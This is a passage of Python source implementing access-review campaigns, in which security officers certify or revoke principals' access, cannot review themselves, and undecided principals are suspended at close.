            raise InvalidRequestError("campaign id must be 8-64 characters of a-z, 0-9 and '-'")
        if not (_is_time(self.opened_at) and _is_time(self.closes_at)):
            raise InvalidRequestError("campaign times must be finite")
        if not MIN_CAMPAIGN <= self.closes_at - self.opened_at <= MAX_CAMPAIGN:
            raise InvalidRequestError(
                f"a campaign lasts between {int(MIN_CAMPAIGN)} s and {int(MAX_CAMPAIGN)} s"
            )
        if not isinstance(self.state, CampaignState):
            raise InvalidRequestError("campaign state malformed")
        has_closer = self.closed_at is not None and self.closed_by is not None
        no_closer = self.closed_at is None and self.closed_by is None
        if not (has_closer if self.state is CampaignState.CLOSED else no_closer):
            raise InvalidRequestError("a campaign is closed exactly when it has a closer")
        items = dict(self.items)
        if not items:
            raise InvalidRequestError("a campaign reviews at least one principal")
        if self.scope is not None and set(self.scope) != set(items):
            raise InvalidRequestError("a campaign's scope and items must name the same principals")
        object.__setattr__(self, "items", MappingProxyType(items))

    def item(self, principal_id: str) -> Item:
        try:
            return self.items[principal_id]
        except KeyError:
            raise NotFoundError(f"{principal_id!r} is not under review in this campaign") from None

    def pending(self) -> tuple[str, ...]:
        return tuple(sorted(p for p, i in self.items.items() if i.state is ItemState.PENDING))

    def revoked(self) -> tuple[str, ...]:
        return tuple(sorted(p for p, i in self.items.items() if i.state is ItemState.REVOKED))

    def to_json(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "opened_by": self.opened_by,
            "opened_at": self.opened_at,
            "closes_at": self.closes_at,
            "state": self.state.value,
            "scope": None if self.scope is None else list(self.scope),
            "items": {p: self.items[p].to_json() for p in sorted(self.items)},
            "closed_at": self.closed_at,
            "closed_by": self.closed_by,
        }

    @classmethod
    def from_json(cls, data: object) -> Campaign:
        """The stored form back, with every rule of the constructor checked again."""
        keys = {"id", "opened_by", "opened_at", "closes_at", "state", "scope", "items"}
        keys |= {"closed_at", "closed_by"}
        if not isinstance(data, dict) or set(data) != keys:
            raise InvalidRequestError("campaign malformed")
        scope, items = data["scope"], data["items"]
        closed_at, closed_by = data["closed_at"], data["closed_by"]
        if not (
            isinstance(data["id"], str)
            and isinstance(data["opened_by"], str)
            and _is_time(data["opened_at"])
            and _is_time(data["closes_at"])
            and (
                scope is None
                or (isinstance(scope, list) and all(isinstance(s, str) for s in scope))
            )
            and isinstance(items, dict)
            and all(isinstance(p, str) for p in items)
            and (closed_at is None or _is_time(closed_at))
            and (closed_by is None or isinstance(closed_by, str))
        ):
            raise InvalidRequestError("campaign malformed")
        return cls(
            id=data["id"],
            opened_by=data["opened_by"],
            opened_at=float(data["opened_at"]),
            closes_at=float(data["closes_at"]),
            state=_parse_state(CampaignState, data["state"]),
            scope=None if scope is None else tuple(scope),
            items={p: Item.from_json(v) for p, v in items.items()},
            closed_at=None if closed_at is None else float(closed_at),
            closed_by=closed_by,
        )


@dataclass(frozen=True)
class Closing:
    """A closed campaign and what the adapter must now do.

    ``suspend``: principals nobody certified in time. Access that no one vouched for is
    withdrawn, not kept by default. ``revoke``: principals an officer revoked.
    """

    campaign: Campaign
    suspend: tuple[str, ...]
    revoke: tuple[str, ...]


def may_run_campaigns(officer: Principal) -> Decision:
    """Whether ``officer`` may open and close review campaigns."""
    if not officer.active:
        return Deny(f"{officer.id!r} is disabled")
    if Role.SECURITY_OFFICER not in officer.roles:
        return Deny(f"{officer.id!r} is not a security officer")
    return ALLOW


def may_decide(officer: Principal, principal_id: str) -> Decision:
    """Whether ``officer`` may certify or revoke ``principal_id``'s access.

    Nobody reviews themselves: an officer's own access needs another officer's decision.
    """
    decision = may_run_campaigns(officer)
    if not decision:
        return decision
    if officer.id == principal_id:
        return Deny(f"{officer.id!r} cannot decide their own access review")
    return ALLOW


def open_campaign(
    officer: Principal,
    principals: Iterable[Principal],
    now: float,
    duration: float,
    campaign_id: str,
    *,
    scope: Sequence[str] | None = None,
) -> Campaign:
    """A new campaign over ``scope`` (default: every active principal), open for ``duration``.

    Disabled principals are not reviewed: they hold no access. Naming one in ``scope`` is an
    error rather than silently skipped, so an officer never believes a review covered someone
    it did not.
    """
    _require(may_run_campaigns(officer))
    if not _is_time(now):
        raise InvalidRequestError("now must be a finite time")
    if not _is_time(duration) or not MIN_CAMPAIGN <= duration <= MAX_CAMPAIGN:
        raise InvalidRequestError(
            f"duration must be between {int(MIN_CAMPAIGN)} and {int(MAX_CAMPAIGN)} seconds"
        )
    known = {p.id: p for p in principals}
    if scope is None:
        ids = sorted(p.id for p in known.values() if p.active)
        listed = None
    else:
        if isinstance(scope, str):
            raise InvalidRequestError("scope must be a list of principal ids")
        for principal_id in scope:
            found = known.get(principal_id)
            if found is None:
                raise NotFoundError(f"no principal {principal_id!r}")
            if not found.active:
                raise InvalidRequestError(f"{principal_id!r} is disabled: nothing to review")
        ids = sorted(set(scope))
        listed = tuple(ids)
    return Campaign(
        id=campaign_id,
        opened_by=officer.id,
        opened_at=now,
        closes_at=now + duration,
        state=CampaignState.OPEN,
        scope=listed,
        items=dict.fromkeys(ids, Item()),
    )


def certify(
    campaign: Campaign, officer: Principal, principal_id: str, now: float, note: str = ""
) -> Campaign:
    """``principal_id`` keeps their access, vouched for by ``officer``."""
    return _decide(
        campaign,
        officer=officer,
        principal_id=principal_id,
        now=now,
        note=note,
        state=ItemState.CERTIFIED,
    )


def revoke(
    campaign: Campaign, officer: Principal, principal_id: str, now: float, note: str
) -> Campaign:
    """``principal_id`` loses their access when the campaign closes.

    A revocation needs a note: the principal, and whoever reviews the reviewer, will ask why.
    """
    return _decide(
        campaign,
        officer=officer,
        principal_id=principal_id,
        now=now,
        note=note,
        state=ItemState.REVOKED,
    )


def close(campaign: Campaign, officer: Principal, now: float) -> Closing:
    """Close the campaign: every item still pending is to be suspended, revoked ones revoked.

    An officer may close early; items nobody decided are then suspended all the same, which is
    the safe way round. The officer's own pending item is no exception: if they are the only
    security officer, the adapter should know it is about to suspend them.
    """
    _require(may_run_campaigns(officer))
    _require_open(campaign)
    if not _is_time(now):
        raise InvalidRequestError("now must be a finite time")
    closed = replace(campaign, state=CampaignState.CLOSED, closed_at=now, closed_by=officer.id)
    return Closing(closed, suspend=campaign.pending(), revoke=campaign.revoked())


def _decide(
    campaign: Campaign,
    *,
    officer: Principal,
    principal_id: str,
    now: float,
    note: str,
    state: ItemState,
) -> Campaign:
    _require(may_decide(officer, principal_id))
    _require_open(campaign)
    if not _is_time(now):
        raise InvalidRequestError("now must be a finite time")
    if now >= campaign.closes_at:
        raise ConflictError("the campaign's review period is over: close it")
    if not isinstance(note, str) or len(note) > MAX_NOTE:
        raise InvalidRequestError(f"a review note is limited to {MAX_NOTE} characters")
    if state is ItemState.REVOKED and not note.strip():
        raise InvalidRequestError("a revocation needs a note saying why")
    current = campaign.item(principal_id)
    if current.state is not ItemState.PENDING:
        raise ConflictError(f"{principal_id!r} has already been {current.state.value}")
    items = dict(campaign.items)
    items[principal_id] = Item(state, officer.id, now, note)
    return replace(campaign, items=items)


def _require(decision: Decision) -> None:
    """Questions answer with decisions; here a denial becomes the opaque error the caller sees."""
    if isinstance(decision, Deny):
        raise PermissionDeniedError(decision.reason)


def _require_open(campaign: Campaign) -> None:
    if campaign.state is not CampaignState.OPEN:
        raise ConflictError("the campaign is closed")


def _parse_state(kind: type[S], value: object) -> S:
    try:
        return kind(str(value))
    except ValueError:
        raise InvalidRequestError(f"unknown {kind.__name__} {value!r}") from None
